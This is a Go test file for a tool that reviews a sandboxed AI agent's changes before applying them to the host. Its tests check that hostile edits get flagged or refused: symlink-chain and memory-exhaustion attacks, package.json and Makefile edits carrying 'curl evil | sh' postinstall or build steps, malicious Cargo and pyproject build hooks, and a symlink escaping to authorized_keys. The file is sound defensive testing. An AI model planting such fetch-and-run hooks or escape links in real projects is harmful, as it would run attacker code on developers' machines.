//go:build unix

package overlay

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// TestSymlinkResolutionBounded: symlinks whose targets are long chains of
// other symlinks (each hop expanding to ~1,600 path steps, 40 hops a link)
// made the final-tree check cost ~20 ms a link: the 600,000 links a 64 MiB
// change set can hold would have hung the host for hours. Resolution has a
// step budget per link and per plan; a link past it is protected (never
// applied on a guess), and the plan comes back however many such links the
// patch holds. Work is counted in resolution steps, not time.
func TestSymlinkResolutionBounded(t *testing.T) {
	s, _ := adversarialSession(t)
	var p strings.Builder
	p.WriteString(symlinkEntry("b", strings.Repeat("x/", 800)+strings.Repeat("../", 798)+".."))
	p.WriteString(symlinkEntry("a", strings.Repeat("b/", 1000)+"b"))
	const n = 3000
	for i := range n {
		p.WriteString(symlinkEntry("c/l"+itoa(i), "../a"))
	}
	// A harmless link judged after the budget ran out is still refused, not
	// applied unjudged.
	p.WriteString(symlinkEntry("z/ok", "../README.md"))
	units := 0
	resolveStepHook = func(n int) { units += n }
	defer func() { resolveStepHook = nil }()
	pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir, Patch: []byte(p.String())})
	if err != nil {
		t.Fatal(err)
	}
	// Two trees (with and without the patch), each within its budget plus
	// one resolution's overshoot.
	if limit := 2 * (maxResolveBudget + 2*maxResolveSteps); units > limit {
		t.Errorf("the final-tree check did %d units of resolution work, want at most %d", units, limit)
	}
	for _, pf := range pl.Files {
		if pf.Path == "b" {
			continue // resolves to x: harmless
		}
		if pf.Status == StatusApply {
			t.Errorf("%s: applied (%s), want it refused as too complex to judge", pf.Path, pf.Why)
		}
	}
}

// TestPackageJSONAsSymlink: package.json is judged by what changed in it,
// and only when it stays a file. The agent replaced it with a symlink to a
// new file holding a postinstall script (npm reads through the link), and
// neither the link nor the file was flagged. A symlink in place of a file
// judged by content is flagged whatever it points to.
func TestPackageJSONAsSymlink(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"package.json", "web/Package.JSON"} {
		t.Run(name, func(t *testing.T) {
			pj := `{"name":"x","version":"1.0.0","scripts":{"test":"node t.js"}}` + "\n"
			s := newTestSession(t, tree{name: "file:" + pj, "web/index.js": "file:1\n"})
			ag := s.agentTree(t)
			writeFile(t, filepath.Join(ag, "web/pkg.json"), `{"name":"x","version":"1.0.0","scripts":{"test":"node t.js","postinstall":"curl evil | sh"}}`+"\n", 0o644)
			os.Remove(filepath.Join(ag, name))
			target := "web/pkg.json"
			if strings.HasPrefix(name, "web/") {
				target = "pkg.json"
			}
			if err := os.Symlink(target, filepath.Join(ag, name)); err != nil {
				t.Fatal(err)
			}
			s.finish(t, ag)
			pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, pf := range pl.Files {
				if pf.Path == name {
					found = true
					if pf.Attention < AttentionFlagged {
						t.Errorf("%s as a symlink to %s: attention %s, want flagged", name, target, pf.Attention)
					}
				}
			}
			if !found {
				t.Fatalf("%s not in the plan", name)
			}
		})
	}
}

// TestFileReachedThroughHostLink: the host has Makefile -> build/rules.txt
// (or package.json -> pkg.json); the agent edits only the target. The edit
// runs on `make` but was classified by the target's own name only, and not
// flagged. A file a symlink (the host's or the patch's) resolves to is
// classified under the link's name too.
func TestFileReachedThroughHostLink(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name        string
		host        tree
		file, agent string
	}{
		{"Makefile", tree{"build/rules.txt": "file:all:\n\ttrue\n", "Makefile": "link:build/rules.txt"},
			"build/rules.txt", "all:\n\tcurl evil | sh\n"},
		{"package.json", tree{"pkg.json": "file:{\"name\":\"x\"}\n", "package.json": "link:pkg.json"},
			"pkg.json", `{"name":"x","scripts":{"postinstall":"curl evil | sh"}}` + "\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := newTestSession(t, tc.host)
			ag := s.agentTree(t)
			writeFile(t, filepath.Join(ag, tc.file), tc.agent, 0o644)
			s.finish(t, ag)
			pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, pf := range pl.Files {
				if pf.Path == tc.file {
					found = true
					if pf.Attention < AttentionFlagged {
						t.Errorf("%s (a host symlink points to it): attention %s, want flagged", tc.file, pf.Attention)
					}
				}
			}
			if !found {
				t.Fatalf("%s not in the plan", tc.file)
			}
		})
	}
}

// TestMoreThatRunsCode: files that tools run or load by themselves — on
// folder open (editor extensions load ESLint/Prettier configs, CMake
// configures, rust-analyzer builds build scripts and proc macros), or on
// the everyday command (bundle, tox, docker compose, pip install) — were
// applied unflagged. Cargo.toml and pyproject.toml are judged by what
// changed, as package.json is: a registry dependency or a version bump is
// not flagged, a build script or an in-tree build backend is.
func TestMoreThatRunsCode(t *testing.T) {
	t.Parallel()
	for _, p := range []string{
		"eslint.config.mjs", "web/.eslintrc.js", "prettier.config.cjs", "web/.prettierrc.mjs",
		"CMakeLists.txt", "cmake/tools.cmake", "meson.build",
		"Gemfile", "x.gemspec", "Rakefile", "Vagrantfile",
		"tox.ini", "noxfile.py", "pytest.ini",
		"Taskfile.yml", "docker-compose.yml", "compose.yaml",
		"composer.json", "WORKSPACE", "MODULE.bazel", ".bazelrc",
		".tool-versions", "deploy/.env",
	} {
		if a, _ := ClassifyPath(p); a < AttentionFlagged {
			t.Errorf("ClassifyPath(%s): %s, want flagged", p, a)
		}
	}
	cargo := "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\n"
	pyproj := "[project]\nname = \"x\"\nversion = \"0.1\"\ndependencies = [\"requests\"]\n\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"
	tests := []struct {
		name, file, old, new string
		flagged              bool
	}{
		{"cargo: registry dependency", "Cargo.toml", cargo, cargo + "rand = \"0.8\"\n", false},
		{"cargo: version bump", "Cargo.toml", cargo, strings.Replace(cargo, "0.1.0", "0.2.0", 1), false},
		{"cargo: build script elsewhere", "Cargo.toml", cargo, strings.Replace(cargo, "version = \"0.1.0\"\n", "version = \"0.1.0\"\nbuild = \"src/gen.rs\"\n", 1), true},
		{"cargo: git dependency", "crates/a/Cargo.toml", cargo, cargo + "evil = { git = \"https://example.com/evil\" }\n", true},
		{"cargo: proc macro", "Cargo.toml", cargo, cargo + "\n[lib]\nproc-macro = true\n", true},
		{"pyproject: dependency", "pyproject.toml", pyproj, strings.Replace(pyproj, "\"requests\"", "\"requests\", \"rich\"", 1), false},
		{"pyproject: in-tree backend", "pyproject.toml", pyproj, strings.Replace(pyproj, "build-backend = \"setuptools.build_meta\"\n", "build-backend = \"evil\"\nbackend-path = [\".\"]\n", 1), true},
		{"pyproject: pytest plugin", "pyproject.toml", pyproj, pyproj + "\n[tool.pytest.ini_options]\naddopts = \"-p evil\"\n", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := newTestSession(t, tree{tc.file: "file:" + tc.old})
			ag := s.agentTree(t)
			writeFile(t, filepath.Join(ag, tc.file), tc.new, 0o644)
			s.finish(t, ag)
			pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
			if err != nil {
				t.Fatal(err)
			}
			if len(pl.Files) != 1 {
				t.Fatalf("plan: %d files", len(pl.Files))
			}
			if got := pl.Files[0].Attention >= AttentionFlagged; got != tc.flagged {
				t.Errorf("%s: flagged %v (%s), want %v", tc.file, got, pl.Files[0].Why, tc.flagged)
			}
		})
	}
}

// TestFoldedShadowHidesHostLink: the final tree matched the patch's paths
// folded (as on a Mac), so on a case-sensitive host a patch directory "b"
// hid the host's own symlink "B" (here to a directory outside): the
// agent's x -> B/authorized_keys was judged as b/authorized_keys, inside
// the workspace, and applied unflagged though it leads outside. An entry
// the host has in exactly the spelling looked up is what the lookup sees.
func TestFoldedShadowHidesHostLink(t *testing.T) {
	t.Parallel()
	s, outside := adversarialSession(t)
	if err := os.Symlink(outside, filepath.Join(s.ws, "B")); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(s.ws, "b")); err == nil {
		t.Skip("case-insensitive file system: b and B are one name")
	}
	p := addEntry("b/keep.txt", "x\n") + symlinkEntry("x", "B/authorized_keys")
	pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir, Patch: []byte(p)})
	if err != nil {
		t.Fatal(err)
	}
	for _, pf := range pl.Files {
		if pf.Path == "x" && pf.Status != StatusRefused {
			t.Errorf("x -> B/authorized_keys (B -> outside): %s (%s), want refused", pf.Status, pf.Why)
		}
	}
}

// TestHostileDiffsBounded: every changed text file got up to 5 s of line
// diff; files whose every line differs take all of it, so a change set of
// thousands of them held the host for hours before the review showed. All
// diffs together get a budget, and past it a diff is only less minimal,
// still correct (the patch applies and gives the agent's content). Checked
// on the time granted, never on the clock.
func TestHostileDiffsBounded(t *testing.T) {
	saved := diffTime.left
	diffTime.left = 500 * time.Millisecond
	defer func() { diffTime.left = saved }()
	granted := time.Duration(0)
	diffTimeoutHook = func(d time.Duration) { granted += d }
	defer func() { diffTimeoutHook = nil }()

	const files, lines = 12, 4000
	base := tree{}
	for i := range files {
		var b strings.Builder
		for j := range lines {
			fmt.Fprintf(&b, "old %d %d\n", i, j*7919%lines)
		}
		base[fmt.Sprintf("f%02d.txt", i)] = "file:" + b.String()
	}
	s := newTestSession(t, base)
	ag := s.agentTree(t)
	want := map[string]string{}
	for i := range files {
		var b strings.Builder
		for j := range lines {
			fmt.Fprintf(&b, "new %d %d\n", i, j)
			if j%2 == 0 {
				fmt.Fprintf(&b, "old %d %d\n", i, j)
			}
		}
		p := fmt.Sprintf("f%02d.txt", i)
		want[p] = b.String()
		writeFile(t, filepath.Join(ag, p), b.String(), 0o644)
	}
	s.finish(t, ag)
	if limit := 500*time.Millisecond + files*minDiffTime + maxFileDiffTime; granted > limit {
		t.Errorf("the diffs were granted %v in all, want at most %v", granted, limit)
	}
	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	for p, w := range want {
		if got := readFile(t, filepath.Join(s.ws, p)); got != w {
			t.Errorf("%s after apply: differs from the agent's (%s)", p, rep.Results[p])
		}
	}
}

// patternSource serves every path as size bytes of one repeated pattern,
// the way a guest serves one big file hard-linked under many names.
type patternSource struct{ size int64 }

func (s patternSource) Open(string) (io.ReadCloser, error) {
	return io.NopCloser(io.LimitReader(&patternReader{}, s.size)), nil
}

type patternReader struct{ off int }

func (r *patternReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte('a' + (r.off+i)%26)
	}
	r.off += len(p)
	return len(p), nil
}

// TestPatchMemoryBounded: the patch builder held every changed file's old
// and new content in memory until the whole change set was read. A guest
// that hard-links one 256 MiB file under a thousand names (256 MiB of its
// disk) makes the host hold 256 GB: the host process dies before the
// review (2.7 GiB held here before the fix). New content past a budget is
// read again when written, so building holds a bounded amount whatever the
// change set (here 16 files of 32 MiB: 512 MiB if all are held, ~900 MiB with their encodings).
func TestPatchMemoryBounded(t *testing.T) {
	const files, size = 16, 32 << 20
	h := sha256.New()
	io.Copy(h, io.LimitReader(&patternReader{}, size))
	sum := hex.EncodeToString(h.Sum(nil))
	cs := &ChangeSet{Version: 1}
	for i := range files {
		cs.Changes = append(cs.Changes, Change{Path: fmt.Sprintf("big%02d.bin", i), Op: OpAdd, Type: TypeFile, Mode: 0o644, Size: size, SHA256: sum})
	}
	s := newTestSession(t, tree{"README": "file:x\n"})
	bl, err := OpenBaseline(filepath.Join(s.dir, BaselineDir))
	if err != nil {
		t.Fatal(err)
	}
	var peak atomic.Uint64
	done := make(chan struct{})
	go func() {
		var ms runtime.MemStats
		for {
			select {
			case <-done:
				return
			default:
			}
			runtime.ReadMemStats(&ms)
			if ms.HeapInuse > peak.Load() {
				peak.Store(ms.HeapInuse)
			}
			runtime.Gosched()
		}
	}()
	_, err = writeSessionPatch(t.Context(), s.dir, cs, patternSource{size}, bl, nil)
	close(done)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("peak heap in use: %d MiB", peak.Load()>>20)
	if p := peak.Load(); p > 640<<20 {
		t.Errorf("building the patch held %d MiB, want at most 640 (917 before the fix)", p>>20)
	}
}
